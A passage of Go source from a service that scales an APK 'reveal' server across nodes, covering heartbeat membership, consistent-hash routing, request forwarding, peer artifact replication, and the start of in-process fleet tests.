		h.Instruction(sys, 0, nil, nil)
		h.ReflectiveCall(nil, 0, nil)
	}
	if c.busy.Load() != 0 {
		t.Fatal("guard left set after hooks returned")
	}
}
