// Membership: a static peer list refined by heartbeats. Every node
// periodically polls each peer's GET /v1/peer/state; FailureThreshold
// consecutive misses mark the peer dead and rebuild the hash ring without
// it, which is the lease handover — keys the dead node owned now route to
// their ring successor, whose local store singleflight becomes the lease
// for any retried work. A recovering peer is folded back in the same way.
// Connection errors observed on the forward path mark the target down
// immediately rather than waiting out the heartbeat cycle.
package fleet

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"time"
)

// PeerState is the JSON shape of GET /v1/peer/state: the signals routing
// needs about a member — whether it accepts work and how loaded it is.
type PeerState struct {
	ID    string `json:"id"`
	Ready bool   `json:"ready"`
	// Load is the peer's admitted-but-unfinished job count; the 429
	// escalation path forwards to the least-loaded alive replica.
	Load int `json:"load"`
}

// member is this node's view of one fleet member (including itself).
type member struct {
	id     string
	alive  bool
	ready  bool
	load   int
	missed int // consecutive failed heartbeats
}

// handlePeerState answers a heartbeat probe with this node's own state.
func (n *Node) handlePeerState(w http.ResponseWriter, _ *http.Request) {
	st := PeerState{ID: n.cfg.Self, Ready: n.srv.Ready(), Load: n.srv.Load()}
	w.Header().Set("Content-Type", "application/json")
	json.NewEncoder(w).Encode(st)
}

// heartbeatLoop probes every peer once per interval until Close.
func (n *Node) heartbeatLoop() {
	defer n.wg.Done()
	t := time.NewTicker(n.cfg.HeartbeatInterval)
	defer t.Stop()
	for {
		select {
		case <-n.stop:
			return
		case <-t.C:
			n.heartbeatRound()
		}
	}
}

// heartbeatRound probes each peer and folds the results into membership.
func (n *Node) heartbeatRound() {
	for _, peer := range n.cfg.Peers {
		st, err := n.probe(peer)
		if err != nil {
			n.recordMiss(peer)
			continue
		}
		n.recordBeat(peer, st)
	}
}

// probe fetches one peer's state with a deadline of one heartbeat
// interval, so a hung peer cannot stall the membership loop.
func (n *Node) probe(peer string) (*PeerState, error) {
	ctx, cancel := context.WithTimeout(context.Background(), n.cfg.HeartbeatInterval)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, peer+"/v1/peer/state", nil)
	if err != nil {
		return nil, err
	}
	resp, err := n.client.Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return nil, fmt.Errorf("fleet: peer state = %d", resp.StatusCode)
	}
	st := &PeerState{}
	if err := json.NewDecoder(resp.Body).Decode(st); err != nil {
		return nil, err
	}
	return st, nil
}

// recordBeat marks a successful probe, reviving a dead peer (and
// rebuilding the ring) when one comes back.
func (n *Node) recordBeat(peer string, st *PeerState) {
	n.mu.Lock()
	m := n.members[peer]
	if m == nil {
		n.mu.Unlock()
		return
	}
	m.missed = 0
	m.ready, m.load = st.Ready, st.Load
	revived := !m.alive
	if revived {
		m.alive = true
		n.rebuildRingLocked(peer)
	}
	n.mu.Unlock()
}

// recordMiss counts a failed probe, declaring the peer dead at
// FailureThreshold consecutive misses.
func (n *Node) recordMiss(peer string) {
	n.mu.Lock()
	m := n.members[peer]
	if m == nil {
		n.mu.Unlock()
		return
	}
	m.missed++
	if m.alive && m.missed >= n.cfg.FailureThreshold {
		m.alive = false
		m.ready = false
		n.rebuildRingLocked(peer)
	}
	n.mu.Unlock()
}

// markDown declares a peer dead immediately — called when the forward path
// observes a connection error, which is stronger evidence than a missed
// heartbeat.
func (n *Node) markDown(peer string) {
	n.mu.Lock()
	m := n.members[peer]
	if m != nil && m.alive {
		m.alive = false
		m.ready = false
		m.missed = n.cfg.FailureThreshold
		n.rebuildRingLocked(peer)
	}
	n.mu.Unlock()
}

// rebuildRingLocked rebuilds placement over the currently alive members.
// changed names the member whose state flipped, for the trace. Caller
// holds n.mu.
func (n *Node) rebuildRingLocked(changed string) {
	alive := make([]string, 0, len(n.members))
	for id, m := range n.members {
		if m.alive {
			alive = append(alive, id)
		}
	}
	n.ring.Store(buildRing(alive))
	n.m.ringRebuilds.Add(1)
	n.span.RingRebuild(len(alive), len(n.members), changed)
}

// aliveRing returns the current placement snapshot.
func (n *Node) aliveRing() *ring { return n.ring.Load() }

// leastLoadedReplica picks the alive, ready member of key's replica set
// with the smallest last-heartbeat load, excluding the members in skip —
// the 429 escalation target. "" when no eligible replica exists.
func (n *Node) leastLoadedReplica(key string, skip ...string) string {
	replicas := n.aliveRing().successors(key, n.cfg.Replication)
	n.mu.Lock()
	defer n.mu.Unlock()
	best, bestLoad := "", int(^uint(0)>>1)
	for _, id := range replicas {
		skipped := false
		for _, s := range skip {
			if id == s {
				skipped = true
				break
			}
		}
		if skipped {
			continue
		}
		m := n.members[id]
		if m == nil || !m.alive || !m.ready {
			continue
		}
		if m.load < bestLoad {
			best, bestLoad = id, m.load
		}
	}
	return best
}
