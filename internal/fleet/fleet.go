// Package fleet scales the reveal service horizontally: N internal/server
// nodes sharing one logical artifact tier. Each node wraps a full server
// (queue, workers, store, telemetry) with a router that places every
// submission on a consistent-hash ring keyed by the artifact's content
// address (store.KeyFor over ContentHash × Options fingerprint), so the
// fleet runs each unique reveal exactly once no matter which node a client
// hits:
//
//   - A forwarded request (FleetHopsHeader present) always executes
//     locally — one hop maximum, no forwarding loops.
//   - A locally cached artifact is served locally.
//   - Otherwise the key's ring owner handles it. A non-owner first tries a
//     peer fetch (GET /v1/peer/artifact/{key}) — if the owner already has
//     the artifact, it is copied into the local store and served without
//     any job queue round trip; on a miss the request is forwarded to the
//     owner, whose store singleflight is the fleet-wide reveal lease.
//   - An owner answering 429 escalates to the least-loaded alive replica
//     of the key before the client ever sees the shed.
//   - A connection error marks the target dead, rebuilds the ring, and
//     retries against the key's new owner (lease handover); if the ring
//     lands the key on this node, it takes the work over itself.
//
// Artifacts an owner serves repeatedly (HotThreshold) are pushed to the
// key's ring successors (PUT /v1/peer/artifact/{key}), so hot keys survive
// their owner's death already warm. Membership is a static peer list
// refined by heartbeats (see membership.go). Everything speaks plain HTTP,
// so a fleet runs equally over httptest loopback in CI and real listeners
// in production.
package fleet

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net/http"
	"sync"
	"sync/atomic"
	"time"

	"dexlego/internal/obs"
	"dexlego/internal/server"
	"dexlego/internal/store"
)

// Config parameterizes one fleet node.
type Config struct {
	// Server configures the wrapped reveal server; Server.Store is
	// required.
	Server server.Config
	// Self is this node's base URL (e.g. "http://10.0.0.1:8080") — its
	// identity on the hash ring and the hop name stamped into forwarded
	// requests. Required.
	Self string
	// Peers are the other nodes' base URLs. Every node must be configured
	// with the same total membership (order irrelevant) so rings agree.
	Peers []string
	// Replication sizes each key's replica set: the owner plus
	// Replication-1 ring successors receive hot-artifact pushes and serve
	// as 429 escalation targets (<= 0 selects 2).
	Replication int
	// HotThreshold is the per-key serve count at which the owner pushes
	// the artifact to the key's replicas (<= 0 selects 3).
	HotThreshold int
	// HeartbeatInterval paces membership probes (<= 0 selects 1s).
	HeartbeatInterval time.Duration
	// FailureThreshold is the consecutive missed heartbeats that declare a
	// peer dead (<= 0 selects 3).
	FailureThreshold int
	// ForwardAttempts bounds how many targets one submission is forwarded
	// to before answering 502 (<= 0 selects 3).
	ForwardAttempts int
	// Client issues all fleet-internal HTTP (forwards, peer fetches,
	// heartbeats); nil selects a default client with no global timeout —
	// heartbeats apply their own per-probe deadline.
	Client *http.Client
}

// fleetMetrics are the dexlego_fleet_* series, registered into the wrapped
// server's registry so every node's /metrics carries its fleet counters.
type fleetMetrics struct {
	peerHits        *obs.Counter
	peerMisses      *obs.Counter
	forwardOwner    *obs.Counter
	forwardReplica  *obs.Counter
	forwardTakeover *obs.Counter
	leaseContention *obs.Counter
	ringRebuilds    *obs.Counter
	replications    *obs.Counter
	peerServes      *obs.Counter
}

// Node is one fleet member: a reveal server plus the placement router in
// front of it.
type Node struct {
	cfg    Config
	srv    *server.Server
	inner  http.Handler
	client *http.Client

	tracer *obs.Tracer
	span   *obs.Span
	m      fleetMetrics

	ring atomic.Pointer[ring]

	mu       sync.Mutex
	members  map[string]*member
	inflight map[string]int // local reveal lease refcounts, keyed by artifact key
	hot      map[string]int // owner-side per-key serve counts
	pushed   map[string]bool

	stop chan struct{}
	wg   sync.WaitGroup
}

// hotMapCap bounds the owner-side serve-count map; when full it resets,
// trading exact counts for bounded memory (a truly hot key re-crosses the
// threshold immediately).
const hotMapCap = 4096

// New builds a fleet node around a fresh server. The node starts
// not-ready, joins its ring, launches the heartbeat loop, and only then
// reports ready — peers never route to a node that cannot place keys yet.
func New(cfg Config) (*Node, error) {
	if cfg.Self == "" {
		return nil, errors.New("fleet: Config.Self (this node's base URL) is required")
	}
	if cfg.Replication <= 0 {
		cfg.Replication = 2
	}
	if cfg.HotThreshold <= 0 {
		cfg.HotThreshold = 3
	}
	if cfg.HeartbeatInterval <= 0 {
		cfg.HeartbeatInterval = time.Second
	}
	if cfg.FailureThreshold <= 0 {
		cfg.FailureThreshold = 3
	}
	if cfg.ForwardAttempts <= 0 {
		cfg.ForwardAttempts = 3
	}
	if cfg.Client == nil {
		cfg.Client = &http.Client{}
	}
	srv, err := server.New(cfg.Server)
	if err != nil {
		return nil, err
	}
	srv.SetReady(false)

	n := &Node{
		cfg:      cfg,
		srv:      srv,
		inner:    srv.Handler(),
		client:   cfg.Client,
		tracer:   obs.New(cfg.Server.Sink),
		members:  make(map[string]*member, len(cfg.Peers)+1),
		inflight: make(map[string]int),
		hot:      make(map[string]int, hotMapCap),
		pushed:   make(map[string]bool),
		stop:     make(chan struct{}),
	}
	n.span = n.tracer.Start("fleet", cfg.Self)
	n.registerMetrics(srv.Registry())

	n.members[cfg.Self] = &member{id: cfg.Self, alive: true, ready: true}
	for _, p := range cfg.Peers {
		if p == cfg.Self {
			continue
		}
		// Peers start presumed alive: a static list is the operator's claim
		// of membership, and heartbeats demote the dead ones within
		// FailureThreshold intervals.
		n.members[p] = &member{id: p, alive: true, ready: true}
	}
	n.mu.Lock()
	n.rebuildRingLocked(cfg.Self)
	n.mu.Unlock()

	n.wg.Add(1)
	go n.heartbeatLoop()
	srv.SetReady(true)
	return n, nil
}

// registerMetrics wires the dexlego_fleet_* series into the server's
// registry.
func (n *Node) registerMetrics(r *obs.Registry) {
	n.m.peerHits = r.Counter("fleet_peer_fetches",
		"Peer artifact fetches by outcome.", obs.L("outcome", "hit"))
	n.m.peerMisses = r.Counter("fleet_peer_fetches",
		"Peer artifact fetches by outcome.", obs.L("outcome", "miss"))
	n.m.forwardOwner = r.Counter("fleet_forwards",
		"Submissions forwarded to another node, by target role.", obs.L("role", "owner"))
	n.m.forwardReplica = r.Counter("fleet_forwards",
		"Submissions forwarded to another node, by target role.", obs.L("role", "replica"))
	n.m.forwardTakeover = r.Counter("fleet_forwards",
		"Submissions forwarded to another node, by target role.", obs.L("role", "takeover"))
	n.m.leaseContention = r.Counter("fleet_lease_contention",
		"Local submissions that joined an already in-flight reveal lease for the same key.")
	n.m.ringRebuilds = r.Counter("fleet_ring_rebuilds",
		"Hash-ring rebuilds caused by membership changes.")
	n.m.replications = r.Counter("fleet_replications",
		"Hot artifacts pushed to replica nodes.")
	n.m.peerServes = r.Counter("fleet_peer_serves",
		"Artifacts served to peers over the peer fetch endpoint.")
	r.GaugeFunc("fleet_nodes_alive", "Fleet members this node believes alive.", func() int64 {
		n.mu.Lock()
		defer n.mu.Unlock()
		var alive int64
		for _, m := range n.members {
			if m.alive {
				alive++
			}
		}
		return alive
	})
	r.CounterFunc("fleet_trace_dropped_events",
		"Fleet-router trace events lost to sink or encoding errors.", n.tracer.Dropped)
}

// Server exposes the wrapped reveal server (tests and the serve loop drain
// it through the usual BeginDrain/Close sequence).
func (n *Node) Server() *server.Server { return n.srv }

// Handler returns the node's routes: the placement router on POST
// /v1/reveal, the peer protocol under /v1/peer/, and the wrapped server
// for everything else.
func (n *Node) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /v1/reveal", n.handleReveal)
	mux.HandleFunc("GET /v1/peer/artifact/{key}", n.handlePeerArtifact)
	mux.HandleFunc("PUT /v1/peer/artifact/{key}", n.handlePeerPush)
	mux.HandleFunc("GET /v1/peer/state", n.handlePeerState)
	mux.Handle("/", n.inner)
	return mux
}

// Close stops the heartbeat loop and shuts the wrapped server down.
func (n *Node) Close() {
	close(n.stop)
	n.wg.Wait()
	n.srv.Close()
	n.span.End()
}

// maxBody mirrors the wrapped server's body bound for fleet-side reads.
func (n *Node) maxBody() int64 {
	if n.cfg.Server.MaxBodyBytes > 0 {
		return n.cfg.Server.MaxBodyBytes
	}
	return 64 << 20
}

// handleReveal is the placement router (see the package comment for the
// decision ladder).
func (n *Node) handleReveal(w http.ResponseWriter, r *http.Request) {
	body, err := io.ReadAll(http.MaxBytesReader(w, r.Body, n.maxBody()))
	if err != nil {
		http.Error(w, fmt.Sprintf("read body: %v", err), http.StatusBadRequest)
		return
	}
	pkg, opts, _, err := server.ParseSubmission(r.URL.Query(), body)
	if err != nil {
		// Malformed submissions are answered by the local server so error
		// shapes match standalone mode.
		n.delegateLocal(w, r, body, "")
		return
	}
	key := store.KeyFor(pkg.ContentHash(), opts.Fingerprint())

	// Forwarded once already: execute here, never forward again.
	if r.Header.Get(server.FleetHopsHeader) != "" {
		n.countServe(key)
		n.delegateLocal(w, r, body, key)
		return
	}
	// Local artifact: the wrapped server's fast path serves it.
	if _, ok := n.srv.Store().Get(key); ok {
		n.countServe(key)
		n.delegateLocal(w, r, body, key)
		return
	}
	owner := n.aliveRing().owner(key)
	if owner == "" || owner == n.cfg.Self {
		n.countServe(key)
		n.delegateLocal(w, r, body, key)
		return
	}
	// Non-owner with a cold cache: copy the artifact from the owner if it
	// exists, recompute nothing.
	if art := n.peerFetch(owner, key); art != nil {
		if err := n.srv.Store().Put(art); err == nil {
			n.delegateLocal(w, r, body, key)
			return
		}
	}
	n.forward(w, r, body, key, owner)
}

// delegateLocal replays the submission against the wrapped server,
// tracking the key's local reveal lease so cross-node singleflight
// contention is visible in the metrics.
func (n *Node) delegateLocal(w http.ResponseWriter, r *http.Request, body []byte, key string) {
	if key != "" {
		n.mu.Lock()
		n.inflight[key]++
		if n.inflight[key] > 1 {
			n.m.leaseContention.Add(1)
		}
		n.mu.Unlock()
		defer func() {
			n.mu.Lock()
			if n.inflight[key]--; n.inflight[key] <= 0 {
				delete(n.inflight, key)
			}
			n.mu.Unlock()
		}()
	}
	w.Header().Set(NodeHeader, n.cfg.Self)
	r.Body = io.NopCloser(bytes.NewReader(body))
	r.ContentLength = int64(len(body))
	n.inner.ServeHTTP(w, r)
}

// forward relays the submission to target (the key's owner), walking the
// failure ladder: connection errors mark the target dead and retry against
// the rebuilt ring's owner (taking over locally if that is us), a 429
// escalates once to the least-loaded alive replica, and anything else is
// relayed to the client as-is.
func (n *Node) forward(w http.ResponseWriter, r *http.Request, body []byte, key, target string) {
	role := obs.ForwardOwner
	tried := []string{n.cfg.Self}
	for attempt := 0; attempt < n.cfg.ForwardAttempts; attempt++ {
		if target == n.cfg.Self {
			// The ring moved the key onto us mid-flight: take the work over.
			n.m.forwardTakeover.Add(1)
			n.span.FleetForward(key, n.cfg.Self, obs.ForwardTakeover)
			n.countServe(key)
			n.delegateLocal(w, r, body, key)
			return
		}
		n.countForward(key, target, role)
		resp, err := n.post(r, target, body)
		if err != nil {
			// Dead target: rebuild and chase the key to its new owner.
			n.markDown(target)
			tried = append(tried, target)
			target, role = n.aliveRing().owner(key), obs.ForwardOwner
			if target == "" {
				break
			}
			continue
		}
		if resp.StatusCode == http.StatusTooManyRequests && role == obs.ForwardOwner {
			if alt := n.leastLoadedReplica(key, append(tried, target)...); alt != "" {
				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				tried = append(tried, target)
				target, role = alt, obs.ForwardReplica
				continue
			}
		}
		n.relay(w, resp, target)
		return
	}
	http.Error(w, "fleet: no node could accept the submission", http.StatusBadGateway)
}

// countForward records one forward by target role.
func (n *Node) countForward(key, target, role string) {
	switch role {
	case obs.ForwardReplica:
		n.m.forwardReplica.Add(1)
	default:
		n.m.forwardOwner.Add(1)
	}
	n.span.FleetForward(key, target, role)
}

// post re-issues the submission to a peer, stamping this node into the hop
// chain.
func (n *Node) post(r *http.Request, target string, body []byte) (*http.Response, error) {
	url := target + r.URL.Path
	if r.URL.RawQuery != "" {
		url += "?" + r.URL.RawQuery
	}
	req, err := http.NewRequestWithContext(r.Context(), http.MethodPost, url, bytes.NewReader(body))
	if err != nil {
		return nil, err
	}
	req.Header.Set("Content-Type", r.Header.Get("Content-Type"))
	req.Header.Set(server.FleetHopsHeader, n.cfg.Self)
	return n.client.Do(req)
}

// NodeHeader names the node that actually answered a fleet-routed request,
// so clients know where the job record (and its artifact/flight endpoints)
// lives.
const NodeHeader = "X-Dexlego-Node"

// relay copies a peer's response through to the client.
func (n *Node) relay(w http.ResponseWriter, resp *http.Response, target string) {
	defer resp.Body.Close()
	for _, h := range []string{"Content-Type", "Retry-After", "Location"} {
		if v := resp.Header.Get(h); v != "" {
			w.Header().Set(h, v)
		}
	}
	w.Header().Set(NodeHeader, target)
	w.WriteHeader(resp.StatusCode)
	io.Copy(w, resp.Body)
}

// --- peer artifact protocol --------------------------------------------------

// peerFetch copies an artifact from a peer's store; nil on any miss or
// error. A connection error marks the peer down, exactly like one on the
// forward path.
func (n *Node) peerFetch(peer, key string) *store.Artifact {
	req, err := http.NewRequest(http.MethodGet, peer+"/v1/peer/artifact/"+key, nil)
	if err != nil {
		return nil
	}
	resp, err := n.client.Do(req)
	if err != nil {
		n.markDown(peer)
		return nil
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		io.Copy(io.Discard, resp.Body)
		n.m.peerMisses.Add(1)
		n.span.PeerFetch(key, peer, false)
		return nil
	}
	data, err := io.ReadAll(io.LimitReader(resp.Body, n.maxBody()+int64(64<<10)))
	if err != nil {
		n.m.peerMisses.Add(1)
		n.span.PeerFetch(key, peer, false)
		return nil
	}
	art, err := store.WireDecode(data)
	if err != nil || art.Key != key {
		n.m.peerMisses.Add(1)
		n.span.PeerFetch(key, peer, false)
		return nil
	}
	n.m.peerHits.Add(1)
	n.span.PeerFetch(key, peer, true)
	return art
}

// handlePeerArtifact serves a locally stored artifact to a peer (memory or
// disk tier only — a peer fetch never triggers a reveal).
func (n *Node) handlePeerArtifact(w http.ResponseWriter, r *http.Request) {
	key := r.PathValue("key")
	if !store.ValidKey(key) {
		http.Error(w, "bad artifact key", http.StatusBadRequest)
		return
	}
	art, ok := n.srv.Store().Get(key)
	if !ok {
		http.Error(w, "artifact not stored here", http.StatusNotFound)
		return
	}
	frame, err := store.WireEncode(art)
	if err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	n.m.peerServes.Add(1)
	n.countServe(key)
	w.Header().Set("Content-Type", "application/octet-stream")
	w.Write(frame)
}

// handlePeerPush accepts a replication push, validating the frame against
// the same invariants the store enforces locally.
func (n *Node) handlePeerPush(w http.ResponseWriter, r *http.Request) {
	key := r.PathValue("key")
	if !store.ValidKey(key) {
		http.Error(w, "bad artifact key", http.StatusBadRequest)
		return
	}
	data, err := io.ReadAll(http.MaxBytesReader(w, r.Body, n.maxBody()+int64(64<<10)))
	if err != nil {
		http.Error(w, fmt.Sprintf("read frame: %v", err), http.StatusBadRequest)
		return
	}
	art, err := store.WireDecode(data)
	if err != nil || art.Key != key {
		http.Error(w, "frame does not decode to the named artifact", http.StatusBadRequest)
		return
	}
	if err := n.srv.Store().Put(art); err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	w.WriteHeader(http.StatusNoContent)
}

// --- hot-artifact replication ------------------------------------------------

// countServe tallies one local serve of key; crossing HotThreshold pushes
// the artifact to the key's replicas in the background.
func (n *Node) countServe(key string) {
	n.mu.Lock()
	if len(n.hot) >= hotMapCap {
		n.hot = make(map[string]int, hotMapCap)
	}
	n.hot[key]++
	trigger := n.hot[key] >= n.cfg.HotThreshold && !n.pushed[key]
	if trigger {
		n.pushed[key] = true
		if len(n.pushed) > hotMapCap {
			n.pushed = make(map[string]bool)
		}
	}
	n.mu.Unlock()
	if !trigger {
		return
	}
	n.wg.Add(1)
	go func() {
		defer n.wg.Done()
		n.replicate(key)
	}()
}

// replicate pushes key's artifact to the alive members of its replica set.
// Best-effort: a failed push leaves the replica cold, and the peer-fetch
// path still works.
func (n *Node) replicate(key string) {
	art, ok := n.srv.Store().Get(key)
	if !ok {
		return
	}
	frame, err := store.WireEncode(art)
	if err != nil {
		return
	}
	for _, peer := range n.aliveRing().successors(key, n.cfg.Replication) {
		if peer == n.cfg.Self {
			continue
		}
		req, err := http.NewRequest(http.MethodPut, peer+"/v1/peer/artifact/"+key, bytes.NewReader(frame))
		if err != nil {
			continue
		}
		req.Header.Set("Content-Type", "application/octet-stream")
		resp, err := n.client.Do(req)
		if err != nil {
			continue
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode == http.StatusNoContent {
			n.m.replications.Add(1)
		}
	}
}
