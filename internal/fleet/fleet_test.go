package fleet

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	dexlego "dexlego"
	"dexlego/internal/apk"
	"dexlego/internal/obs"
	"dexlego/internal/pipeline"
	"dexlego/internal/server"
	"dexlego/internal/store"
)

// killSwitch fronts a node's handler so tests can crash it: once dead,
// every request (including in-flight retries) aborts with an empty reply,
// exactly as a killed process looks to its peers.
type killSwitch struct {
	dead atomic.Bool
	h    atomic.Value // http.Handler
}

func (k *killSwitch) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if k.dead.Load() {
		panic(http.ErrAbortHandler)
	}
	h, _ := k.h.Load().(http.Handler)
	if h == nil {
		http.Error(w, "booting", http.StatusServiceUnavailable)
		return
	}
	h.ServeHTTP(w, r)
}

type testNode struct {
	node  *Node
	ts    *httptest.Server
	ks    *killSwitch
	url   string
	trace *bytes.Buffer
}

// kill simulates the node's process dying: new requests abort, in-flight
// responses are cut mid-stream.
func (tn *testNode) kill() {
	tn.ks.dead.Store(true)
	tn.ts.CloseClientConnections()
}

// startFleet boots a size-node in-process fleet over httptest loopback.
// mutate can adjust any node's config once the full URL set is known
// (e.g. to plant a blocking reveal on a specific key's owner). Every
// node's JSONL trace is schema-validated at cleanup.
func startFleet(t *testing.T, size int, mutate func(i int, urls []string, cfg *Config)) []*testNode {
	t.Helper()
	nodes := make([]*testNode, size)
	urls := make([]string, size)
	for i := range nodes {
		ks := &killSwitch{}
		ts := httptest.NewServer(ks)
		nodes[i] = &testNode{ts: ts, ks: ks, url: ts.URL, trace: &bytes.Buffer{}}
		urls[i] = ts.URL
	}
	for i, tn := range nodes {
		st, err := store.Open(t.TempDir(), 32)
		if err != nil {
			t.Fatal(err)
		}
		peers := make([]string, 0, size-1)
		for j, u := range urls {
			if j != i {
				peers = append(peers, u)
			}
		}
		cfg := Config{
			Server: server.Config{
				Store:          st,
				Workers:        2,
				QueueDepth:     16,
				RequestTimeout: 20 * time.Second,
				Sink:           obs.NewJSONLSink(tn.trace),
				Reveal: func(pkg *apk.APK, _ dexlego.Options) (*dexlego.Result, error) {
					return stubResult(pkg.Manifest.Package), nil
				},
			},
			Self:              tn.url,
			Peers:             peers,
			HeartbeatInterval: 200 * time.Millisecond,
		}
		if mutate != nil {
			mutate(i, urls, &cfg)
		}
		node, err := New(cfg)
		if err != nil {
			t.Fatal(err)
		}
		tn.node = node
		tn.ks.h.Store(node.Handler())
	}
	t.Cleanup(func() {
		for _, tn := range nodes {
			tn.node.Close()
			tn.ts.Close()
		}
		// Every event any node emitted — fleet router and server alike —
		// must pass the trace schema.
		for i, tn := range nodes {
			if _, err := obs.ReadTrace(bytes.NewReader(tn.trace.Bytes())); err != nil {
				t.Errorf("node %d emitted an invalid trace: %v", i, err)
			}
		}
	})
	return nodes
}

func stubResult(name string) *dexlego.Result {
	pkg := apk.New(name, "1.0", "L"+name+";")
	pkg.SetDex([]byte{0x64, 0x65, 0x78})
	return &dexlego.Result{Revealed: pkg, Metrics: &pipeline.AppMetrics{WallNS: 1}}
}

func buildBody(t *testing.T, name string) []byte {
	t.Helper()
	pkg := apk.New(name, "1.0", "L"+name+"/Main;")
	pkg.SetDex([]byte(name + "-dex"))
	data, err := pkg.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// keyOf computes the artifact key the fleet will place the body under.
func keyOf(t *testing.T, body []byte) string {
	t.Helper()
	pkg, opts, _, err := server.ParseSubmission(url.Values{}, body)
	if err != nil {
		t.Fatal(err)
	}
	return store.KeyFor(pkg.ContentHash(), opts.Fingerprint())
}

// post submits a reveal to base, returning the response and decoded job
// status (when 2xx). Extra headers simulate fleet-internal forwards.
func post(t *testing.T, base, query string, body []byte, hdr map[string]string) (*http.Response, *server.JobStatus) {
	t.Helper()
	req, err := http.NewRequest(http.MethodPost, base+"/v1/reveal"+query, bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/zip")
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	st := &server.JobStatus{}
	if resp.StatusCode < 300 {
		if err := json.Unmarshal(data, st); err != nil {
			t.Fatalf("status %d, body not a JobStatus: %s", resp.StatusCode, data)
		}
	}
	return resp, st
}

// scrape fetches and lints one node's OpenMetrics exposition.
func scrape(t *testing.T, base string) *obs.Exposition {
	t.Helper()
	resp, err := http.Get(base + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	expo, err := obs.ParseExposition(resp.Body)
	if err != nil {
		t.Fatalf("%s/metrics failed the OpenMetrics lint: %v", base, err)
	}
	return expo
}

func metricValue(t *testing.T, base, sample string, labels ...obs.Label) float64 {
	t.Helper()
	v, _ := scrape(t, base).Value(sample, labels...)
	return v
}

// fetchArtifact downloads a job's revealed bytes from the node that owns
// its record.
func fetchArtifact(t *testing.T, base, id string) []byte {
	t.Helper()
	resp, err := http.Get(base + "/v1/jobs/" + id + "/artifact")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("artifact fetch from %s = %d: %s", base, resp.StatusCode, data)
	}
	return data
}

// TestFleetExactlyOnceUnderDuplicateStorm is the core guarantee: M
// concurrent submissions of one APK, sprayed across a 5-node fleet, run
// exactly one reveal fleet-wide and hand every caller byte-identical
// artifacts.
func TestFleetExactlyOnceUnderDuplicateStorm(t *testing.T) {
	var reveals atomic.Int64
	nodes := startFleet(t, 5, func(i int, urls []string, cfg *Config) {
		cfg.Server.Reveal = func(pkg *apk.APK, _ dexlego.Options) (*dexlego.Result, error) {
			reveals.Add(1)
			time.Sleep(30 * time.Millisecond) // widen the duplicate window
			return stubResult(pkg.Manifest.Package), nil
		}
	})
	body := buildBody(t, "storm")
	const dups = 40
	type outcome struct {
		code     int
		answered string
		st       *server.JobStatus
	}
	results := make(chan outcome, dups)
	var wg sync.WaitGroup
	for i := 0; i < dups; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			resp, st := post(t, nodes[i%len(nodes)].url, "?wait=1", body, nil)
			results <- outcome{resp.StatusCode, resp.Header.Get(NodeHeader), st}
		}(i)
	}
	wg.Wait()
	close(results)

	var first []byte
	for r := range results {
		if r.code != http.StatusOK || r.st.State != server.StateDone {
			t.Fatalf("storm submission = %d %+v, want 200 done", r.code, r.st)
		}
		if r.answered == "" {
			t.Fatalf("response missing %s header", NodeHeader)
		}
		art := fetchArtifact(t, r.answered, r.st.ID)
		if first == nil {
			first = art
		} else if !bytes.Equal(first, art) {
			t.Fatal("two callers received different artifact bytes for one key")
		}
	}
	if n := reveals.Load(); n != 1 {
		t.Fatalf("fleet ran %d reveals for one unique key, want exactly 1", n)
	}

	// The fleet-wide cache hit ratio on a pure-duplicate workload: one
	// miss, everything else served from some store tier or lease.
	var misses int64
	for _, tn := range nodes {
		misses += tn.node.Server().Store().Misses()
	}
	if misses != 1 {
		t.Errorf("store misses across the fleet = %d, want 1", misses)
	}
	ratio := float64(dups-1) / float64(dups)
	if ratio < 0.8 {
		t.Errorf("fleet cache-hit ratio %.2f below the 0.8 gate", ratio)
	}

	// Every node's exposition lints and carries the fleet plane; nobody
	// dropped an obs event.
	for _, tn := range nodes {
		expo := scrape(t, tn.url)
		for _, fam := range []string{
			"dexlego_fleet_peer_fetches", "dexlego_fleet_forwards",
			"dexlego_fleet_ring_rebuilds", "dexlego_fleet_lease_contention",
			"dexlego_fleet_nodes_alive", "dexlego_fleet_replications",
		} {
			if expo.Family(fam) == nil {
				t.Errorf("node %s exposition is missing family %s", tn.url, fam)
			}
		}
		if alive, _ := expo.Value("dexlego_fleet_nodes_alive"); alive != 5 {
			t.Errorf("node %s believes %v nodes alive, want 5", tn.url, alive)
		}
		for _, dropped := range []string{
			"dexlego_trace_dropped_events_total", "dexlego_fleet_trace_dropped_events_total",
		} {
			if v, ok := expo.Value(dropped); !ok || v != 0 {
				t.Errorf("node %s %s = %v, want 0", tn.url, dropped, v)
			}
		}
	}
}

// TestFleetPeerFetchWarmsNonOwner: once the owner holds an artifact, a
// submission to any other node is served by copying it over the peer
// protocol — no forward, no recompute.
func TestFleetPeerFetchWarmsNonOwner(t *testing.T) {
	nodes := startFleet(t, 3, nil)
